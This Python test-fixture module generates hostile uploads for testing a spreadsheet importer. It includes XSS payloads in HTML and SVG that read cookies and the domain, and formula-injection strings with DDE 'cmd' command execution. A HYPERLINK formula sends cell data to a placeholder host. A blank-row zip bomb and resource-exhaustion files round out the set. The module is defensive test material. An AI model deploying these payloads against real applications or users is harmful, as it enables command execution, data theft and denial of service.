"""Files people (or attackers) upload instead of the template: generators for test_hostile_input.

Every function returns bytes. The spreadsheets are built with openpyxl from a header row
(usually read from the importer's own template, so the header is right and the content is not).
"""

import io
import zipfile

from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter

ZIP_MAGIC_PREFIX = b"PK\x03\x04"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>"
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # the start of an Excel 97-2003 .xls


def _zip_not_xlsx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "không phải Excel")
    return buffer.getvalue()


ZIP_NOT_XLSX = _zip_not_xlsx()  # a valid zip holding a text file

# Cells that start like a formula; written as text they must stay text, never be evaluated.
FORMULA_TEXTS = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1,1)",
)


def save(wb: Workbook) -> bytes:
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def template_headers(content: bytes) -> tuple[str, list[str]]:
    """The data sheet's name and header row of a template (the first sheet, first non-empty row)."""
    wb = load_workbook(io.BytesIO(content))
    ws = wb.worksheets[0]
    for row in ws.iter_rows(values_only=True):
        if any(v not in (None, "") for v in row):
            return ws.title, [v for v in row]
    raise AssertionError("template without a header row")


def sheet(sheet_name: str, headers: list, rows: list[list] = (), *, as_text: bool = False) -> bytes:
    """A one-sheet workbook; as_text keeps strings starting with "=" as text rather than formulas."""
    wb = Workbook()
    ws = wb.active
    ws.title = sheet_name
    ws.append(headers)
    for values in rows:
        ws.append(values)
        if as_text:
            for cell in ws[ws.max_row]:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    return save(wb)


def empty_workbook() -> bytes:
    return save(Workbook())


def merged(sheet_name: str, headers: list, rows: list[list], *, header: bool = False) -> bytes:
    """Rows 2-3 merged across every column (the first cell keeps its value); header merges A1:B1 too."""
    wb = Workbook()
    ws = wb.active
    ws.title = sheet_name
    ws.append(headers)
    for values in rows:
        ws.append(values)
    last = len(headers)
    ws.merge_cells(start_row=2, start_column=1, end_row=3, end_column=last)
    if header:
        ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=2)
    return save(wb)


def _patch_sheet(content: bytes, extra_rows: str) -> bytes:
    """content with extra_rows (sheet XML) added at the end of its first sheet's data."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.decode().replace("</sheetData>", extra_rows + "</sheetData>").encode()
            target.writestr(info, data)
    return out.getvalue()


def _row(number: int, columns: int) -> str:
    cells = "".join(
        f'<c r="{get_column_letter(i)}{number}" t="inlineStr"><is><t>x</t></is></c>' for i in range(1, columns + 1)
    )
    return f'<row r="{number}">{cells}</row>'


def many_rows(sheet_name: str, headers: list, count: int, columns: int = 3) -> bytes:
    """The header, then count rows with "x" in the first columns (sheet XML written directly: openpyxl is slow)."""
    columns = min(columns, len(headers))
    return _patch_sheet(sheet(sheet_name, headers), "".join(_row(n, columns) for n in range(2, count + 2)))


def far_row(sheet_name: str, headers: list, row_number: int = 1_048_576) -> bytes:
    """The header, then one cell on row row_number: a few KB that make a reader walk a million blank rows."""
    return _patch_sheet(sheet(sheet_name, headers), _row(row_number, 1))


def blank_rows(sheet_name: str, headers: list, count: int = 1_000_000) -> bytes:
    """The header, count empty rows, then one cell: a zip bomb of blank rows (a million compress to a few KB)."""
    return _patch_sheet(sheet(sheet_name, headers), "<row/>" * count + _row(count + 2, 1))


def truncated(content: bytes) -> bytes:
    """A real .xlsx cut in the middle (an interrupted download)."""
    return content[: len(content) // 2]
